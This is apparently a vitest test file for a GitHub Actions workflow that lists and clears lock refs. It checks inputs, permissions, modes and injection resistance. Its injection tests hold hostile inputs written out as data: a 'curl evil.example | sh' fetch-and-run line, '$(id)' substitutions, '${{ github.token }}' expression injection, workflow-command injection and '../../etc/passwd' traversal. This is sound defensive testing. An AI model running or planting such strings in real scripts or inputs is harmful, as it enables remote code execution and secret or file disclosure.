/** The workflow clear-locks.yml: what it makes of its inputs, by GitHub's own parser and evaluator, and what the shipped action makes of that. */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { data, Evaluator, Lexer, Parser } from "@actions/expressions";
import {
  isBasicExpression,
  isMapping,
  isSequence,
  NoOperationTraceWriter,
  parseWorkflow,
} from "@actions/workflow-parser";
import type { TemplateToken } from "@actions/workflow-parser/templates/tokens/template-token";
import { describe, expect } from "vitest";
import { bury } from "./gone.ts";
import { type Scene, type SceneJob, test } from "./scene.ts";

type Value = string | boolean;
type Given = Readonly<Record<string, Value>>;
/** An expression is carried out with the contexts that it may name. */
type Contexts = Readonly<Record<"inputs" | "github" | "secrets", Given>>;

const BY_HAND = ["name", "mode", "expect", "reason", "dry-run"];
const CALLED = [...BY_HAND, "repository", "namespace", "runner"];
const LOG = "refs/locks/publish/log/1";

const content = readFileSync(join(import.meta.dirname, "../../.github/workflows/clear-locks.yml"), "utf8");
const workflow = parseWorkflow({ name: "clear-locks.yml", content }, new NoOperationTraceWriter()).value;
const [job] = pairs(at(workflow, "jobs"));
const [guard, clear, ...more] = listed(at(job?.[1], "steps"));

function pairs(token: TemplateToken | undefined): [string, TemplateToken][] {
  if (token === undefined || !isMapping(token)) throw new Error("there is no mapping");
  return Array.from(token, ({ key, value }) => [String(key), value]);
}

function listed(token: TemplateToken | undefined): TemplateToken[] {
  if (token === undefined || !isSequence(token)) throw new Error("there is no list");
  return [...token];
}

function at(token: TemplateToken | undefined, ...path: readonly string[]): TemplateToken | undefined {
  return path.reduce((from, name) => new Map(pairs(from)).get(name), token);
}

function textOf(token: TemplateToken | undefined, contexts: Contexts): string {
  if (token === undefined) throw new Error("it is not said");
  if (!isBasicExpression(token)) return String(token);
  const all = Object.entries(contexts).map(([key, given]) => ({ key, value: dictionaryOf(given) }));
  const { tokens } = new Lexer(token.expression).lex();
  const functions: ConstructorParameters<typeof Parser>[2] = [];
  const tree = new Parser(tokens, Object.keys(contexts), functions).parse();
  return new Evaluator(tree, new data.Dictionary(...all)).evaluate().coerceString();
}

function dictionaryOf(given: Given) {
  const asData = (value: Value) =>
    typeof value === "boolean" ? new data.BooleanData(value) : new data.StringData(value);
  return new data.Dictionary(...Object.entries(given).map(([key, value]) => ({ key, value: asData(value) })));
}

/** What GitHub hands to the workflow: what is given, else the defaults; by hand, nothing else. */
function contextsOf(
  given: Given,
  trigger: "workflow_call" | "workflow_dispatch" = "workflow_call",
  token = "t",
) {
  const inputs = pairs(at(workflow, "on", trigger, "inputs")).map(([name, input]): [string, Value] => {
    const isBoolean = String(at(input, "type")) === "boolean";
    const byDefault = String(at(input, "default") ?? "");
    return [name, given[name] ?? (isBoolean ? byDefault === "true" : byDefault)];
  });
  const { secret, ...others } = given;
  const unknown = Object.keys(others).filter((name) => inputs.every(([known]) => known !== name));
  if (unknown.length > 0) throw new Error(`there is no input ${unknown}`);
  const secrets: Given = secret === undefined ? {} : { token: secret };
  return { inputs: Object.fromEntries(inputs), github: { token }, secrets };
}

/** `with:` of the step that uses the action. */
function withOf(contexts: Contexts): Record<string, string> {
  return Object.fromEntries(pairs(at(clear, "with")).map(([name, token]) => [name, textOf(token, contexts)]));
}

/** The step as the workflow has it, in a job of the scene. */
function calls(job: SceneJob, given: Given, trigger?: "workflow_call" | "workflow_dispatch") {
  return job.runs(withOf(contextsOf({ name: "publish", ...given }, trigger, job.token)));
}

const claimOf = async (scene: Scene, lock = "publish") =>
  (await scene.refs())[`refs/locks/${lock}/log/1`] ?? "";

describe("clear-locks.yml", () => {
  test("has the same inputs by hand and called, but for what only a caller can know", () => {
    const by = (trigger: string) => pairs(at(workflow, "on", trigger, "inputs"));
    expect(by("workflow_dispatch").map(([name]) => name)).toEqual(BY_HAND);
    expect(by("workflow_call").map(([name]) => name)).toEqual(CALLED);
    for (const trigger of ["workflow_dispatch", "workflow_call"]) {
      // Nothing is cleared by a careless click, or call.
      expect(String(at(workflow, "on", trigger, "inputs", "mode", "default"))).toBe("list");
      expect(String(at(workflow, "on", trigger, "inputs", "name", "required"))).toBe("true");
    }
    const modes = listed(at(workflow, "on", "workflow_dispatch", "inputs", "mode", "options"));
    expect(modes.map(String)).toEqual(["list", "stale", "force"]);
  });

  test("has one job with no more than it needs: its permissions, its limit, its two steps", () => {
    const asked = pairs(at(workflow, "permissions")).map(([name, level]) => [name, String(level)]);
    expect(Object.fromEntries(asked)).toEqual({ contents: "write", actions: "read" });
    expect(pairs(at(workflow, "jobs"))).toHaveLength(1);
    expect(pairs(job?.[1]).map(([name]) => name)).not.toContain("permissions");
    expect(Number(String(at(job?.[1], "timeout-minutes")))).toBeLessThanOrEqual(10);
    expect(String(at(clear, "uses"))).toBe("reflock/reflock@v1");
    expect(String(at(guard, "run"))).not.toContain("${{");
    expect(more).toEqual([]);
  });

  test("gives each mode to the action as what it is", () => {
    const given = (mode: string) => withOf(contextsOf({ name: "publish", mode }));
    expect(given("list")).toMatchObject({ operation: "status", force: "false", "dry-run": "false" });
    expect(given("stale")).toMatchObject({ operation: "clear", force: "false" });
    expect(given("force")).toMatchObject({ operation: "clear", force: "true" });
  });

  test.for(["list", "stale", "force", "", "forced", "clear", "list,stale"])("the mode %j", (mode) => {
    const stops = textOf(at(guard, "if"), contextsOf({ name: "publish", mode }));
    expect(stops).toBe(String(!["list", "stale", "force"].includes(mode)));
  });

  test("passes on what is written, and nothing of it becomes a part of a script or an expression", () => {
    const odd = `"; curl evil.example | sh #$(id)\`id\`\${{ github.token }}\n::set-output name=x::y`;
    const strings = [...CALLED, "secret"].filter((name) => !["mode", "dry-run", "runner"].includes(name));
    const given = withOf(contextsOf(Object.fromEntries(strings.map((name) => [name, odd]))));
    for (const name of strings) expect(given[name === "secret" ? "token" : name]).toBe(odd);
  });

  test("runs where the caller says, with the caller's token, and by hand where it always does", () => {
    const runsOn = (contexts: Contexts) => textOf(at(job?.[1], "runs-on"), contexts);
    expect(runsOn(contextsOf({ runner: "ours" }))).toBe("ours");
    expect(runsOn(contextsOf({}))).toBe("ubuntu-latest");
    expect(runsOn(contextsOf({}, "workflow_dispatch"))).toBe("ubuntu-latest");
    expect(withOf(contextsOf({ secret: "s" })).token).toBe("s");
    expect(withOf(contextsOf({})).token).toBe("t");
  });
});

describe.concurrent("the action, as the workflow uses it", () => {
  test("lists what is there, and changes nothing", async ({ scene }) => {
    const [dead, live, other] = [await scene.job(), await scene.job(), await scene.job()];
    await dead.holds();
    bury(scene, dead);
    await live.holds({ name: "deploy" });
    const before = await scene.refs();
    for (const trigger of ["workflow_dispatch", "workflow_call"] as const) {
      const list = await calls(other, { name: "*" }, trigger);
      expect(list, list.log).toMatchObject({ code: 0 });
      expect(list.log).toMatch(/"deploy" is held by .*alive/);
      expect(list.log).toMatch(/"publish" is held by .*dead/);
      expect(list.outputs.holders).toContain(await claimOf(scene, "deploy"));
    }
    const several = await calls(other, { name: "deploy\nunheard of", reason: "why", expect: "f".repeat(40) });
    expect(several, several.log).toMatchObject({ code: 0 });
    expect(JSON.parse(several.outputs.holders ?? "").locks).toMatchObject([
      { name: "deploy", holders: [{ run: live.runId }] },
      { name: "unheard of", holders: [] },
    ]);
    expect(await scene.refs()).toEqual(before);
  });

  test("clears the dead and leaves the living, each named, and says first what would go", async ({
    scene,
  }) => {
    const [dead, live, other] = [await scene.job(), await scene.job(), await scene.job()];
    await dead.holds();
    bury(scene, dead);
    await live.holds({ name: "deploy" });
    const before = await scene.refs();
    const dry = await calls(other, { mode: "stale", "dry-run": true });
    expect(dry, dry.log).toMatchObject({ code: 0, log: expect.stringContaining("would be cleared") });
    expect(await scene.refs()).toEqual(before);

    const stale = await calls(other, { name: "*", mode: "stale", reason: "its runner was gone" });
    expect(stale, stale.log).toMatchObject({ code: 1 });
    expect(stale.log).toMatch(new RegExp(`"deploy".*${await claimOf(scene, "deploy")}.*not cleared`));
    expect(await scene.history()).toMatchObject([
      { endedBy: { outcome: "cleared", reason: "its runner was gone" } },
    ]);
    expect(await scene.history("deploy")).toMatchObject([{ endedBy: null }]);
    expect((await live.finish()).map(({ code }) => code)).toEqual([0]);
  });

  test("ends by force what is expected, and nothing else", async ({ scene }) => {
    const [live, other] = [await scene.job(), await scene.job()];
    const { outputs } = await live.holds();
    const claim = outputs.claim ?? "";
    const odd = `it "hangs"; $(id) \${{ github.token }} ::error::no`;
    for (const given of [{}, { expect: claim }, { reason: odd }]) {
      const unnamed = await calls(other, { mode: "force", ...given });
      expect(unnamed, unnamed.log).toMatchObject({ code: 1, log: expect.stringMatching(/expect.*reason/) });
    }
    // It is told at once: nobody was asked.
    expect(other.sent).toEqual([]);
    const wrong = await calls(other, { mode: "force", expect: "f".repeat(40), reason: odd });
    expect(await claimOf(scene), wrong.log).toBe(claim);
    const force = await calls(other, { mode: "force", expect: claim, reason: odd });
    expect(force, force.log).toMatchObject({ code: 0, log: expect.stringContaining("cleared") });
    expect(force.commands.filter(({ command }) => command === "error")).toEqual([]);
    expect(await scene.history()).toMatchObject([{ endedBy: { outcome: "cleared", reason: odd } }]);
    expect((await live.finish())[0], "its post step").toMatchObject({ code: 1 });
  });

  test("thaws a freeze by its oid, without force", async ({ scene }) => {
    const job = await scene.job();
    const { outputs } = await job.runs({ operation: "freeze", reason: "audit" });
    expect(await calls(job, { mode: "stale" })).toMatchObject({ code: 1 });
    expect((await scene.refs())[LOG]).toBe(outputs.claim);
    const thaw = await calls(job, { mode: "stale", expect: outputs.claim ?? "", reason: "done" });
    expect(thaw, thaw.log).toMatchObject({ code: 0, log: expect.stringContaining("cleared") });
  });

  test.for([
    ["a name that closes a string", { name: `publish"; exit 0; echo "` }, "list", 0],
    ["a name with a line that is a command", { name: "publish\n::error::no" }, "list", 0],
    ["a name that leaves the folder", { name: "../../heads/main" }, "stale", 0],
    ["no name", { name: "" }, "stale", 1],
    ["all, and one more", { name: "*\npublish" }, "stale", 1],
    ["an oid that is none", { expect: "$(id)" }, "force", 1],
    ["a repository that is none", { repository: "../../etc/passwd" }, "stale", 1],
    ["a namespace that is none", { namespace: "refs/heads/main/../.." }, "stale", 1],
  ] as const)(
    "%s: it is taken for what it is, and what is held stays",
    async ([, given, mode, code], { scene }) => {
      const [live, other] = [await scene.job(), await scene.job()];
      await live.holds();
      const before = [await scene.refs(), await scene.repository.refs("refs/heads/")];
      const result = await calls(other, { ...given, mode, reason: "$(id)" });
      expect(result, result.log).toMatchObject({ code });
      expect([await scene.refs(), await scene.repository.refs("refs/heads/")]).toEqual(before);
      const shown = result.commands.filter(({ command }) => ["error", "set-output"].includes(command));
      expect(shown, result.log).toHaveLength(code);
    },
  );

  test("in the repository and the namespace that the caller names, with the caller's token", async ({
    scene,
  }) => {
    const elsewhere = await scene.addRepository("octo/locks");
    const [dead, other] = [await scene.job(), await scene.job()];
    const where = { repository: "octo/locks", namespace: "refs/heads/locks" };
    await dead.holds(where);
    bury(scene, dead);
    const before = await elsewhere.refs("refs/heads/locks/");
    expect(before.map(({ name }) => name)).toContain("refs/heads/locks/publish/holder/1");
    const secret = scene.hub.addToken({ label: "caller" });
    const stale = await calls(other, { ...where, mode: "stale", secret });
    expect(stale, stale.log).toMatchObject({ code: 0, log: expect.stringContaining("cleared") });
    expect(other.sent).toEqual([]);
    const after = await elsewhere.refs("refs/heads/locks/");
    expect(after.map(({ name }) => name)).toEqual(["refs/heads/locks/publish/log/1"]);
  });
});
